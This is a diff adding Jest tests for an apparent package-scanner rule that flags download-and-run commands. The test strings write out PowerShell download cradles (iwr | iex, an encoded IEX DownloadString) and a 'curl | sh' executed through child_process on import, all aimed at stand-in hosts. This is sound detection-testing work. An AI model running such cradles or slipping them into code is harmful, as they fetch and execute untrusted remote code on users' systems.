@@ -125,3 +125,46 @@ describe('process-exec stays quiet', () => {
     expectAtMostLow(r.of(RULE));
   });
 });
+
+describe('process-exec lexical scan of a file that cannot be parsed', () => {
+  // A MIME table names the `irm` extension; far below, unrelated code says `iex`. The download
+  // cradle pattern must not join them across the file.
+  const table = ['const types = {', '  "application/vnd.example.rights": ["irm"],', ...Array.from({ length: 40 }, (_, i) => `  "application/x-example-${i}": ["ex${i}"],`), '};', 'const iex = 1;', 'function broken( {'].join('\n');
+  test('words of a table and a name far apart are not a download cradle', () => {
+    const r = scanFiles({ 'index.js': table });
+    expect(r.of('process-exec')).toEqual([]);
+  });
+  test('twin: a PowerShell download cradle in a file that cannot be parsed is caught', () => {
+    const r = scanFiles({ 'index.js': "const cmd = 'powershell -c \"iwr https://payload.invalid/a.ps1 | iex\"';\nfunction broken( {" });
+    expect(r.of('process-exec')[0]?.signals).toContain('exec:shell-download');
+  });
+});
+
+describe('process-exec judges what a download-and-run command is for', () => {
+  const b64 = (script: string) => Buffer.from(script, 'utf16le').toString('base64');
+  test('an encoded PowerShell script that fetches nothing is medium, with the script shown', () => {
+    const script = "$ErrorActionPreference = 'Stop'\nAdd-Type -AssemblyName System.Security\n[Console]::Out.Write('stored')";
+    const r = scanFiles({ 'index.js': `const { execFileSync } = require('child_process');\nmodule.exports = () => execFileSync('powershell.exe', ['-NoProfile', '-EncodedCommand', '${b64(script)}']);` });
+    expect(r.of(RULE)[0]).toMatchObject({ severity: 'medium', signals: ['exec'] });
+    expect(r.of(RULE)[0]?.message).toContain('Add-Type');
+  });
+  test('twin: an encoded download cradle is critical', () => {
+    const script = "IEX (New-Object Net.WebClient).DownloadString('https://payload.invalid/a.ps1')";
+    const r = scanFiles({ 'index.js': `const { execFileSync } = require('child_process');\nexecFileSync('powershell.exe', ['-NoProfile', '-EncodedCommand', '${b64(script)}']);` });
+    expect(r.of(RULE)[0]).toMatchObject({ severity: 'critical', signals: ['exec', 'exec:shell-download'] });
+    expect(r.verdict).toBe('malicious');
+  });
+  test("a bin's self-update command (curl | sh from the vendor) is high, not a malicious chain", () => {
+    const r = scanFiles({
+      'package.json': manifest({ bin: { tool: 'cli.js' } }),
+      'cli.js': "const cp = require('child_process');\nfunction update() { cp.execSync('curl -sfS https://tool.invalid/install.sh | sh', { stdio: 'inherit' }); }\nif (process.argv[2] === 'update') update();",
+    });
+    expect(r.of(RULE)[0]).toMatchObject({ severity: 'high', signals: ['exec'], reach: 'bin' });
+    expect(r.verdict).not.toBe('malicious');
+  });
+  test('twin: the same command run when the package is imported is critical and malicious', () => {
+    const r = scanFiles({ 'index.js': "const cp = require('child_process');\ncp.execSync('curl -sfS https://tool.invalid/install.sh | sh', { stdio: 'inherit' });" });
+    expect(r.of(RULE)[0]).toMatchObject({ severity: 'critical', signals: ['exec', 'exec:shell-download'], reach: 'import' });
+    expect(r.verdict).toBe('malicious');
+  });
+});
